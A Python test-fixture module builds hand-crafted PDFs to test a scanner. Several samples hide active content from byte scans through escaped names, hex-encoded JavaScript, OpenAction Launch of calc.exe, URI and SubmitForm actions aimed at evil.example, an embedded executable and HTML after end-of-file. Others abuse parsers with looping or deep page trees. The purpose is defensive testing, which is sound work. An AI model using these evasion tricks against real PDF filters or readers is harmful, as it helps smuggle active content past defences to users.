"""Hand-built PDFs that hide active content from a byte scan, and PDFs that break parsers.

Each hostile sample was accepted by the earlier byte scan (no literal ``/JavaScript``, ``/JS `` or
``/JS(``, no markup in the first kilobyte): names are written with ``#xx`` escapes, script as hex
strings, markup after the end of the file.
"""

from __future__ import annotations

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def raw_pdf(*objects: bytes, tail: bytes = b"") -> bytes:
    """A PDF of the given objects (numbered from 1; object 1 is the catalog) with a correct
    cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out) + tail


def with_catalog(extra: bytes, *more: bytes, page: bytes = PAGE) -> bytes:
    return raw_pdf(b"<< /Type /Catalog /Pages 2 0 R " + extra + b" >>", PAGES, page, *more)


ALERT_HEX = b"<6170702e616c657274282778272920>"  # app.alert('x')

HOSTILE = {
    # /S /JavaScript /JS (...) with both names escaped.
    "escaped-names": with_catalog(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
    # The script as a hex string, no space after the name.
    "hex-string": with_catalog(b"/OpenAction << /S /Java#53cript /JS" + ALERT_HEX + b" >>"),
    # A document-level script in the /Names JavaScript tree (runs when the file opens).
    "names-tree": with_catalog(
        b"/Names << /J#61vaScript << /Names [(init) 4 0 R] >> >>",
        b"<< /S /J#61vaScript /J#53 " + ALERT_HEX + b" >>",
    ),
    "openaction-launch": with_catalog(b"/OpenAction << /S /Launch /F (calc.exe) >>"),
    "openaction-uri": with_catalog(b"/OpenAction << /S /URI /URI (https://evil.example/) >>"),
    # A page's additional action: submit a form to a web address when the page opens.
    "aa-submitform": with_catalog(
        b"",
        page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /AA << /O << /S /SubmitForm "
        b"/F << /FS /URL /F (https://evil.example/) >> >> >> >>",
    ),
    "embedded-file": with_catalog(
        b"/Names << /Embedded#46iles << /Names [(a.exe) 4 0 R] >> >>",
        b"<< /Type /Filespec /F (a.exe) /E#46 << /F 5 0 R >> >>",
        b"<< /Type /Embedded#46ile /Length 2 >>\nstream\nMZ\nendstream",
    ),
    # A valid PDF followed, past the first kilobyte, by an HTML page.
    "html-after-eof": with_catalog(b"")
    + b"%"
    + b" " * 1200
    + b"\n<html><body><script>alert(1)</script></body></html>\n",
}

# Parser abuse: each must be refused with a message, never answered with a server error.
LOOPING_PAGE_TREE = raw_pdf(
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
    PAGE,
)


def deep_page_tree(depth: int) -> bytes:
    """A page tree ``depth`` levels deep with one page at the bottom."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(depth):
        number = level + 2
        parent = b"" if level == 0 else b"/Parent %d 0 R " % (number - 1)
        objects.append(b"<< /Type /Pages %s/Kids [%d 0 R] /Count 1 >>" % (parent, number + 1))
    objects.append(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 300 300] >>" % (depth + 1))
    return raw_pdf(*objects)


def wide_page_tree(pages: int) -> bytes:
    """One /Pages node whose kids are ``pages`` references to pages (a 'huge page tree')."""
    kids = b" ".join(b"3 0 R" for _ in range(pages))
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        PAGE,
    )


# Benign features that must stay accepted.
LINK_ANNOTATION = raw_pdf(
    b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
    PAGES,
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Annots [4 0 R] >>",
    b"<< /Type /Annot /Subtype /Link /Rect [10 10 100 30] "
    b"/A << /S /URI /URI (https://www.example.org/guidelines) >> >>",
)
HUGE_MEDIABOX = raw_pdf(
    b"<< /Type /Catalog /Pages 2 0 R >>",
    PAGES,
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] >>",
)
